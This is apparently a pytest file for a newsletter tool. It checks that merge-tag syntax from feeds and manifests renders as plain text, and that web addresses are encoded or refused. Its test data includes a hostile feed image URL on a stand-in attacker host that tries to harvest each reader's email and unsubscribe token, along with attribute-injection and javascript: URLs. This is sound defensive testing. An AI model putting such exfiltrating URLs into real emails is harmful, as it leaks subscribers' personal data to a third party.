"""Sources are text: merge syntax from a feed, a seed or the manifest never becomes a merge tag.

The attack: a feed entry whose image URL is `...?u=%%email%%&t=%%unsubscribe_url%%`.  Were it
a merge tag, every reader's copy would send their address and unsubscribe token to the feed's
server.  These tests build from such sources, send a dry run, and read the files.
"""

from __future__ import annotations

import email
import email.policy
import re

import pytest

from newsletter.check import check_issue
from newsletter.config import load_settings
from newsletter.errors import NewsletterError
from newsletter.mail.template import parse_message_template
from newsletter.render.merge_tags import MERGE_TAG, seal_merge_tags
from newsletter.send.sender import SendOptions, send_issue
from newsletter.subscribers.store import open_store
from newsletter.web_address import AddressError, address_host, web_address
from tests.support.digest_workspace import LEAD, build_in, make, rebuild_in, rss

EVIL_IMAGE = "https://evil.example/e.jpg?u=%%email%%&amp;t=%%unsubscribe_url%%"
BODY = " ".join(["The river burst its banks after three days of rain in the valley."] * 14)
READER = "victim@example.com"
TEMPLATE_SLOTS = ("text:unsubscribe_url", "html:unsubscribe_url")  # the default templates' only


def hostile_feed(image: str = EVIL_IMAGE, title: str = "River floods reach the valley") -> str:
    """An RSS feed with one full story (a lead candidate) whose image and text carry merge syntax."""
    return f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"
     xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>Evil</title><link>https://evil.example/</link><description>x</description>
<item><title>{title}</title>
<link>https://evil.example/story?who=%%email%%</link>
<description>Floods and %%unsubscribe_url%% and %%field.city%%.</description>
<media:content url="{image}" medium="image" type="image/jpeg"/>
<content:encoded><![CDATA[<p>Hello %%name%%, %%%email%%% {BODY}</p>]]></content:encoded>
</item></channel></rss>
"""


def slots_of(folder) -> tuple[str, ...]:
    """The merge slots of the folder's merge.eml, in order, as the sender reads them."""
    return parse_message_template((folder / "merge.eml").read_bytes()).slots


def reader_copies(folder) -> list[bytes]:
    """The dry run's outbox files, as bytes."""
    return [p.read_bytes() for p in sorted((folder / "outbox").iterdir())]


def decoded_parts(raw: bytes) -> list[str]:
    """The text of each part of a message, decoded."""
    message = email.message_from_bytes(raw, policy=email.policy.default)
    return [part.get_content() for part in message.walk() if part.get_content_maintype() == "text"]


def built_from(tmp_path, files: dict[str, str], monkeypatch):
    """Build the workspace's seeds/ (the hostile feed leading) and add one reader."""
    ws = make(tmp_path / "ws", files)
    monkeypatch.chdir(ws)
    result = build_in(ws, lead="seeds/evil.xml" if "seeds/evil.xml" in files else None)
    with open_store(ws / "newsletter.db") as store:
        store.upsert(READER, "Vic", {"city": "Lima"})
    return ws, result


def test_a_feed_image_url_cannot_harvest_readers(tmp_path, monkeypatch):
    """Build, dry-run send, read the copies: the reader's address and token are in no URL, and merge.eml has only the templates' slots."""
    ws, result = built_from(tmp_path, {"seeds/evil.xml": hostile_feed()}, monkeypatch)
    settings, _ = load_settings(ws)
    assert slots_of(result.folder) == TEMPLATE_SLOTS
    send_issue(result.folder, settings, SendOptions(dry_run=True))
    (copy,) = reader_copies(result.folder)
    assert READER.encode() in copy  # the To header: the copy is the reader's
    text, html = decoded_parts(copy)
    evil = [u for part in (text, html) for u in re.findall(r"https?://evil[^\s\"<>]+", part)]
    assert evil and not [u for u in evil if "victim" in u or "unsubscribe?" in u or "token" in u]
    assert 'src="https://evil.example/e.jpg?u=%25%25email%25%25&amp;t=%25%25unsubscribe_url' in html
    assert "merge.slots" not in [f.check for f in check_issue(result.folder, settings).findings]


def test_merge_syntax_in_feed_text_reaches_readers_as_text(tmp_path, monkeypatch):
    """A feed's `%%unsubscribe_url%% and %%field.city%%` is shown to the reader as written, in both parts, never filled."""
    ws, result = built_from(tmp_path, {"seeds/evil.xml": hostile_feed()}, monkeypatch)
    settings, _ = load_settings(ws)
    send_issue(result.folder, settings, SendOptions(dry_run=True))
    text, html = decoded_parts(reader_copies(result.folder)[0])
    assert "Floods and %\u2060%unsubscribe_url%\u2060% and %\u2060%field.city%\u2060%." in text
    assert "Floods and &#37;%unsubscribe_url&#37;% and &#37;%field.city&#37;%." in html
    assert "&#37;&#37;%email&#37;&#37;%" in html  # `%%%email%%%` in the preheader
    assert "Lima" not in text + html and text.count("token=") == html.count("token=") == 1


def test_merge_syntax_written_in_the_manifest_is_inert(tmp_path, monkeypatch):
    """A title and a summary the editor writes with %%email%% in issue.toml render as text; only the templates' slots are in merge.eml."""
    ws = make(tmp_path / "ws", {"seeds/lead.md": LEAD})
    result = build_in(ws)
    manifest = result.folder / "issue.toml"
    text = manifest.read_text("utf-8")
    text = text.replace(
        'title = "River floods force thousands from their homes"',
        'title = "Floods %%email%% and %%unsubscribe_url%%"',
        1,
    )
    manifest.write_text(text, "utf-8")
    rebuilt = rebuild_in(ws, result.folder)
    assert slots_of(rebuilt.folder) == TEMPLATE_SLOTS  # the Subject line says it, as text
    assert "Floods &#37;%email&#37;% and" in rebuilt.rendered.html


def test_a_manifest_url_with_merge_syntax_is_refused_naming_the_line(tmp_path):
    """A manifest link written with %%email%% is refused, naming issue.toml, its line and the encoded form to write."""
    ws = make(tmp_path / "ws", {"seeds/lead.md": LEAD})
    result = build_in(ws)
    manifest = result.folder / "issue.toml"
    text = manifest.read_text("utf-8")
    manifest.write_text(
        text.replace("https://example.org/floods", "https://example.org/f?u=%%email%%", 1), "utf-8"
    )
    line = 1 + text.split("\n").index('url = "https://example.org/floods"')
    with pytest.raises(
        NewsletterError, match=rf"issue\.toml:{line}: lead\.url: .*%25%25email%25%25"
    ):
        rebuild_in(ws, result.folder)


@pytest.mark.parametrize(
    ("rendered", "html", "sealed"),
    [
        # the templates' placeholder (with the nonce) becomes the tag; the source's stays text
        ("a %%email%% b %%~N~email%%", True, "a &#37;%email&#37;% b %%email%%"),
        ("a %%email%% b %%~N~email%%", False, "a %\u2060%email%\u2060% b %%email%%"),
        # source text joined to a placeholder cannot borrow its percent signs
        ("x%%email%%~N~name%%", True, "x&#37;%email%%name%%"),
        ("%%email%%%~N~name%%", True, "&#37;%email%%%name%%"),
        ("%%%%", False, "%\u2060%\u2060%\u2060%"),
        # a guessed nonce is not the render's
        ("%%~0000~email%%", True, "&#37;%~0000~email&#37;%"),
    ],
)
def test_seal_leaves_only_the_templates_tags(rendered, html, sealed):
    """After the seal, the only `%%...%%` left are the templates' placeholders, whatever text surrounds them."""
    out = seal_merge_tags(rendered.replace("~N~", "~n0nce~"), "n0nce", html=html)
    assert out == sealed
    assert MERGE_TAG.findall(out) == re.findall(r"~N~([a-z_.]+)%%", rendered)


@pytest.mark.parametrize(
    ("url", "image", "written"),
    [
        (
            "https://evil.example/e.jpg?u=%%email%%",
            True,
            "https://evil.example/e.jpg?u=%25%25email%25%25",
        ),
        ('https://x.example/a" onclick="b c', False, "https://x.example/a%22%20onclick=%22b%20c"),
        ("https://x.example/caf%C3%A9?q=é", False, "https://x.example/caf%C3%A9?q=é"),
        ("https://x.example/a\u202eb", False, "https://x.example/a%E2%80%AEb"),
        ("  https://x.example/  ", False, "https://x.example/"),
    ],
)
def test_web_addresses_are_written_encoded(url, image, written):
    """Characters a URL cannot hold are percent-encoded once; encoding again changes nothing."""
    assert web_address(url, image=image) == written
    assert web_address(written, image=image) == written


@pytest.mark.parametrize(
    ("url", "image", "why"),
    [
        ("http://x.example/a.jpg", True, "images must be https://"),
        ("https://x.example/a\nb", False, "control character"),
        ("https://x.example/a\u2028b", False, "control character U\\+2028"),
        ("https://x.example/a\ud800b", False, "control character U\\+D800"),
        ("javascript:alert(1)", False, "not an absolute http"),
        ("https:///path", False, "no valid host"),
        ("https://x.example:99999/", False, "no valid host"),
    ],
)
def test_web_addresses_that_cannot_be_written_are_refused(url, image, why):
    """An http image, a control character, another scheme or no host is an AddressError saying which."""
    with pytest.raises(AddressError, match=why):
        web_address(url, image=image)


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://www.Example.org/a", "example.org"),
        (" http://news.example.net:8080/feed ", "news.example.net"),
        ("ftp://example.org/", ""),
        ("https://x.example:99999/", "x.example"),
        ("https://[::1/", ""),
        ("", ""),
    ],
)
def test_an_address_names_its_host_as_an_outlet(address, host):
    """An http(s) address's host, `www.` aside, names its outlet; anything else names none."""
    assert address_host(address) == host


def test_a_feed_link_with_a_quote_and_a_space_writes_a_manifest_that_reads_back(tmp_path):
    """A feed link `…/a" onclick="x y` is written percent-encoded, so the rebuild and check accept the manifest."""
    feed = rss(
        ("Floods reach the valley towns", 'https://example.org/a" onclick="x y', "Water rises."),
    )
    ws = make(tmp_path / "ws", {"seeds/lead.md": LEAD, "seeds/news.xml": feed})
    result = build_in(ws)
    manifest = (result.folder / "issue.toml").read_text("utf-8")
    assert 'url = "https://example.org/a%22%20onclick=%22x%20y"' in manifest
    rebuild_in(ws, result.folder)  # the manifest the build wrote is one its reader takes
    settings, _ = load_settings(ws)
    assert check_issue(result.folder, settings).ok


def test_a_feed_image_over_http_is_left_out_with_a_warning(tmp_path):
    """An http:// feed image is not carried (https only); the build says which entry lost it."""
    ws = make(tmp_path / "ws", {"seeds/evil.xml": hostile_feed(image="http://example.org/a.jpg")})
    result = build_in(ws, lead=str(ws / "seeds" / "evil.xml"))
    assert result.issue.lead.image is None
    assert any(
        "evil.xml#1: image 'http://example.org/a.jpg' is http://" in w for w in result.warnings
    )


@pytest.mark.parametrize(
    ("name", "text", "line"),
    [
        (
            "story.md",
            "---\ntitle: A story\nimage: http://example.org/a.jpg\nimage_alt: A map\n---\nBody text here.\n",
            3,
        ),
        (
            "story.md",
            "---\ntitle: A story\n---\nBody text.\n\n![A map](http://example.org/a.jpg)\n",
            6,
        ),
    ],
)
def test_an_http_image_in_a_story_is_refused_naming_file_and_line(tmp_path, name, text, line):
    """Front matter or Markdown naming an http:// image is refused at its file and line: images are https only."""
    ws = make(tmp_path / "ws", {f"seeds/{name}": text})
    with pytest.raises(NewsletterError, match=rf"seeds/{name}:{line}: .*http://.*https://"):
        build_in(ws)
